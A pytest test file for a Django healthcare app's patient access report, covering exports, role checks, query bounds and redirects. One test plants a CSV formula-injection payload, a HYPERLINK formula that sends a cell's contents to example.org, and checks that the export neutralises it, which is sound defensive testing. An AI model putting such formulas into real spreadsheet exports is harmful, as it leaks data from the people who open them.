"""The patient's access report (audit app, issue 19 item 15; it was in acute), end to end with
the register and the acute view that fill the log, so it lives outside the apps' own tests
(the audit app's tests may not import domain apps).

- The privacy officer finds a patient by BSN (logged, found or not) and gets the report as a
  page, a CSV (every event, formulas neutralised) and a PDF (the name on every page); producing
  it is logged; other roles are refused.
- The lead practitioner and the patient's GP produce it for their own patients; anyone else
  gets the 404 of a missing patient.
- Repeated identical events are one line; page and PDF take a bounded number of queries.
- The paths under /acute/ it had before the move redirect, with the query string."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from palliare.accounts.permissions import RoleCode
from palliare.acute import access, services
from palliare.acute.constants import EmergencyReason
from palliare.audit import report
from palliare.audit import services as audit
from palliare.audit.constants import AuditAction, AuditPurpose
from palliare.audit.models import AuditEvent
from palliare.careplans.factories import CarePlanFactory
from palliare.organizations.constants import OrganizationType
from palliare.organizations.factories import OrganizationFactory
from palliare.patients.constants import CareTeamRole, ConsentScope
from palliare.patients.factories import CareTeamMemberFactory, ConsentFactory, PatientFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def hap(make_actor):
    post = OrganizationFactory(type=OrganizationType.OUT_OF_HOURS_GP_POST)
    return make_actor(RoleCode.OUT_OF_HOURS_GP, organization=post)


@pytest.fixture
def world(make_actor):
    """A patient of a GP practice, its GP and practice nurse, a lead practitioner elsewhere
    (a palliative specialist) and a district nurse in the team."""
    practice = OrganizationFactory(type=OrganizationType.GP_PRACTICE, name="Praktijk De Linde")
    gp = make_actor(RoleCode.GP, organization=practice)
    poh = make_actor(RoleCode.PRACTICE_NURSE, organization=practice)
    team = OrganizationFactory(type=OrganizationType.DISTRICT_NURSING)
    specialist = make_actor(RoleCode.PALLIATIVE_SPECIALIST, organization=team)
    nurse = make_actor(RoleCode.DISTRICT_NURSE, organization=team)
    patient = PatientFactory(gp_practice=practice, family_name="Hofstede")
    ConsentFactory(patient=patient, scope=ConsentScope.CARE_TEAM)
    CareTeamMemberFactory(
        patient=patient,
        organization=team,
        professional=specialist.membership.professional,
        role=CareTeamRole.PALLIATIVE_SPECIALIST,
        is_lead_practitioner=True,
    )
    CareTeamMemberFactory(
        patient=patient,
        organization=team,
        professional=nurse.membership.professional,
        role=CareTeamRole.DISTRICT_NURSE,
    )
    return {
        "gp": gp,
        "poh": poh,
        "specialist": specialist,
        "nurse": nurse,
        "patient": patient,
    }


def test_access_report_page_csv_pdf(hap, make_actor, client_for):
    from pypdf import PdfReader

    patient = CarePlanFactory().patient
    services.start_emergency_access(
        hap, patient, reason_code=EmergencyReason.LIFE_THREATENING, reason="Reden voor test."
    )
    access.open_acute_summary(hap, patient.pk)
    privacy = make_actor(RoleCode.PRIVACY_OFFICER)
    client = client_for(privacy)
    found = client.post(reverse("audit:access_report_find"), {"bsn": patient.bsn})
    url = reverse("audit:access_report", args=[patient.pk])
    assert found["Location"] == url
    page = client.get(url).content.decode()
    assert "heeft noodtoegang gebruikt" in page and "Reden voor test." in page
    assert hap.organization.name in page
    csv_text = client.get(url + "?format=csv").content.decode("utf-8-sig")
    assert csv_text.splitlines()[0].startswith("Wanneer;Wie;Organisatie")
    assert "Reden voor test." in csv_text
    pdf = client.get(url + "?format=pdf").content
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)
    assert "noodtoegang" in text
    assert (
        AuditEvent.objects.filter(
            event_type="acute.access_report_exported", patient_id=patient.pk
        ).count()
        == 2
    )


def test_access_report_needs_permission(hap, client_for):
    patient = PatientFactory()
    assert client_for(hap).get(reverse("audit:access_report", args=[patient.pk])).status_code == 403


def test_access_report_query_count_is_flat(hap, make_actor, client_for):
    patient = PatientFactory()
    ConsentFactory(patient=patient, scope=ConsentScope.ACUTE_CARE)
    client = client_for(make_actor(RoleCode.PRIVACY_OFFICER))
    url = reverse("audit:access_report", args=[patient.pk])
    for _ in range(3):
        access.open_acute_summary(hap, patient.pk)
    client.get(url)
    with CaptureQueriesContext(connection) as small:
        client.get(url)
    for _ in range(20):
        access.open_acute_summary(hap, patient.pk)
    with CaptureQueriesContext(connection) as large:
        client.get(url)
    assert len(large) == len(small)


def test_access_report_csv_neutralises_formulas(hap, make_actor, client_for):
    """The emergency reason and names are free text: a cell that starts like a formula gets a
    quote, so the CSV cannot run anything when opened in a spreadsheet."""
    patient = CarePlanFactory().patient
    reason = '=HYPERLINK("https://example.org/?x="&A1;"klik")'
    hap.user.first_name = "@SUM(1+1)"
    hap.user.save()
    services.start_emergency_access(
        hap, patient, reason_code=EmergencyReason.LIFE_THREATENING, reason=reason
    )
    access.open_acute_summary(hap, patient.pk)  # logged with the reason as given
    client = client_for(make_actor(RoleCode.PRIVACY_OFFICER))
    url = reverse("audit:access_report", args=[patient.pk]) + "?format=csv"
    text = client.get(url).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'" + reason in cells
    assert any(cell.startswith("'@SUM(1+1)") for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells


def test_access_report_pdf_names_the_patient_exactly_on_every_page(make_actor, client_for):
    """The running header used to carry the name through a JavaScript escape inside a CSS
    string: "Hart-de Vriés" printed as "Hartu002Dde Vriés"."""
    from pypdf import PdfReader

    patient = CarePlanFactory(
        patient__given_name="Anna", patient__family_name="'t Hart-de Vriés"
    ).patient
    nurse = make_actor(RoleCode.DISTRICT_NURSE)
    for n in range(60):  # enough distinct lines for more than one landscape page
        audit_record_read(nurse, patient.pk, event=f"patients.section_{n}_read")
    client = client_for(make_actor(RoleCode.PRIVACY_OFFICER))
    pdf = client.get(reverse("audit:access_report", args=[patient.pk]) + "?format=pdf").content
    pages = [" ".join(p.extract_text().split()) for p in PdfReader(io.BytesIO(pdf)).pages]
    assert len(pages) >= 2
    for number, text in enumerate(pages, start=1):
        assert f"Inzageverslag — {patient.full_name}" in text, number
        assert f"pagina {number} van {len(pages)}" in text, number


def audit_record_read(actor, patient_id: int, *, event: str = "patients.patient_read") -> None:
    from palliare.audit import services as audit
    from palliare.audit.constants import AuditAction, AuditPurpose

    audit.record(
        event,
        actor=actor,
        action=AuditAction.READ,
        patient_id=patient_id,
        purpose=AuditPurpose.TREATMENT,
    )


def test_privacy_officer_find_by_bsn_is_logged(make_actor, client_for):
    officer = make_actor(RoleCode.PRIVACY_OFFICER)
    patient = PatientFactory()
    client = client_for(officer)
    url = reverse("audit:access_report_find")
    assert client.post(url, {"bsn": patient.bsn}).status_code == 302
    assert client.post(url, {"bsn": "123456782"}).status_code == 200
    finds = AuditEvent.objects.filter(event_type="acute.access_report_find").order_by("sequence")
    assert [(e.patient_id, e.purpose, e.details["found"]) for e in finds] == [
        (patient.pk, AuditPurpose.PRIVACY_REVIEW, True),
        (None, AuditPurpose.PRIVACY_REVIEW, False),
    ]


@pytest.mark.parametrize("who", ["gp", "specialist"])
def test_lead_practitioner_and_gp_produce_the_report_for_their_patient(world, client_for, who):
    actor = world[who]
    patient = world["patient"]
    client = client_for(actor)
    url = reverse("audit:practice_access_report", args=[patient.pk])
    page = client.get(url).content.decode()
    assert "Wie keek in het dossier van" in page
    assert 'data-testid="report-for-patient"' in page
    produced = AuditEvent.objects.get(event_type="acute.access_report_read")
    assert produced.actor_user_id == actor.user.pk
    assert produced.patient_id == patient.pk
    assert produced.purpose == AuditPurpose.PRIVACY_REVIEW
    expected = report.AS_GP_PRACTICE if who == "gp" else report.AS_LEAD_PRACTITIONER
    assert produced.details == {"requested_as": expected}
    pdf = client.get(url + "?format=pdf")
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"
    assert AuditEvent.objects.filter(event_type="acute.access_report_exported").count() == 1
    # The patient page offers the report to them.
    detail = client.get(reverse("patients:detail", args=[patient.pk])).content.decode()
    assert 'data-testid="access-panel"' in detail and url in detail


def _main(response) -> str:
    page = response.content.decode()
    return page[page.index("<main") : page.index("</main>")]


@pytest.mark.parametrize("who", ["poh", "nurse", "stranger"])
def test_others_get_the_404_of_a_missing_patient(world, client_for, make_actor, who):
    actor = world.get(who) or make_actor(RoleCode.GP)
    client = client_for(actor)
    patient = world["patient"]
    refused = client.get(reverse("audit:practice_access_report", args=[patient.pk]))
    missing = client.get(reverse("audit:practice_access_report", args=[patient.pk + 10_000]))
    assert refused.status_code == missing.status_code == 404
    assert _main(refused) == _main(missing)
    assert not AuditEvent.objects.filter(event_type="acute.access_report_read").exists()
    assert AuditEvent.objects.filter(event_type="patient.access_denied").count() == 1
    detail = client.get(reverse("patients:detail", args=[patient.pk]))
    assert 'data-testid="access-panel"' not in detail.content.decode()


def _large_log(patient, make_actor, *, repeated: int, distinct: int) -> None:
    nurse = make_actor(RoleCode.DISTRICT_NURSE)
    for _ in range(repeated):
        audit.record(
            "patients.patient_read",
            actor=nurse,
            action=AuditAction.READ,
            patient_id=patient.pk,
            purpose=AuditPurpose.TREATMENT,
        )
    for n in range(distinct):
        audit.record(
            f"patients.section_{n}_read",
            actor=nurse,
            action=AuditAction.READ,
            patient_id=patient.pk,
            purpose=AuditPurpose.TREATMENT,
        )


def test_report_groups_repeated_events_and_stays_bounded(make_actor, client_for, monkeypatch):
    patient = PatientFactory()
    client = client_for(make_actor(RoleCode.PRIVACY_OFFICER))
    url = reverse("audit:access_report", args=[patient.pk])
    _large_log(patient, make_actor, repeated=20, distinct=5)
    with CaptureQueriesContext(connection) as small:
        page = client.get(url).content.decode()
    assert "(20 keer)" in page
    _large_log(patient, make_actor, repeated=1500, distinct=400)
    with CaptureQueriesContext(connection) as large:
        response = client.get(url)
    assert len(large) == len(small)
    assert len(response.context["rows"]) == response.context["page"].paginator.per_page
    counts = sorted(g["n"] for g in report.grouped_for(patient))
    assert counts[-2:] == [20, 1500]  # two nurses, each one line for the day
    # The PDF: at most PDF_MAX_LINES lines, saying how many it leaves to the CSV, in a
    # bounded number of queries.
    monkeypatch.setattr(report, "PDF_MAX_LINES", 50)
    with CaptureQueriesContext(connection) as pdf_queries:
        context = report.pdf_context(patient)
    assert len(context["rows"]) == 50
    assert context["total_lines"] == 408  # 2 repeated lines, 405 distinct, 1 for the reads
    assert context["left_out"] == 358
    assert len(pdf_queries) <= 3
    # The CSV keeps every event.
    csv_text = client.get(url + "?format=csv").content.decode("utf-8-sig")
    assert csv_text.count("\n") > 1900


def test_the_paths_before_the_move_redirect(world, make_actor, client_for):
    """Bookmarks and the links in notifications already sent point under /acute/."""
    patient = world["patient"]
    officer = client_for(make_actor(RoleCode.PRIVACY_OFFICER))
    find = officer.get("/acute/privacy/access-report/")
    assert find.status_code == 301 and find["Location"] == reverse("audit:access_report_find")
    old = officer.get(f"/acute/privacy/access-report/{patient.pk}/?format=csv")
    assert old.status_code == 301
    assert old["Location"] == reverse("audit:access_report", args=[patient.pk]) + "?format=csv"
    gp = client_for(world["gp"])
    practice = gp.get(f"/acute/practice/access-report/{patient.pk}/")
    assert practice.status_code == 301
    assert practice["Location"] == reverse("audit:practice_access_report", args=[patient.pk])
    assert gp.get(practice["Location"]).status_code == 200
    # The redirect keeps the access rule of the page it leads to.
    assert (
        client_for(world["nurse"]).get(f"/acute/privacy/access-report/{patient.pk}/").status_code
        == 403
    )


def test_the_patients_report_reads_as_sentences_without_version_numbers(
    world, client_for, make_actor
):
    """What the patient reads (the page a practitioner shows them, and the PDF) is one
    sentence per line in one tense, "<who> (<role>, <organisation>) heeft …", without the
    internal version number of a record; the privacy officer's page keeps it."""
    from pypdf import PdfReader

    gp, patient = world["gp"], world["patient"]
    audit.record(
        "careplans.version_created",
        actor=gp,
        action=AuditAction.CREATE,
        patient_id=patient.pk,
        purpose=AuditPurpose.TREATMENT,
        details={"version": 3},
    )
    audit.record(
        "patient.read",
        actor=gp,
        action=AuditAction.READ,
        patient_id=patient.pk,
        purpose=AuditPurpose.TREATMENT,
    )
    who = f"{gp.user.get_full_name()} (huisarts, Praktijk De Linde)"
    url = reverse("audit:practice_access_report", args=[patient.pk])
    client = client_for(gp)
    page = _main(client.get(url))
    assert f"{who} heeft het dossier geopend" in page
    assert "(versie" not in page
    assert "Wat er gebeurde" in page
    pdf = client.get(url + "?format=pdf").content
    text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)
    text = " ".join(text.split())
    assert "heeft het dossier geopend" in text and "Praktijk De Linde" in text
    assert "(versie" not in text
    officer = client_for(make_actor(RoleCode.PRIVACY_OFFICER))
    officer_page = _main(officer.get(reverse("audit:access_report", args=[patient.pk])))
    assert "(versie 3)" in officer_page
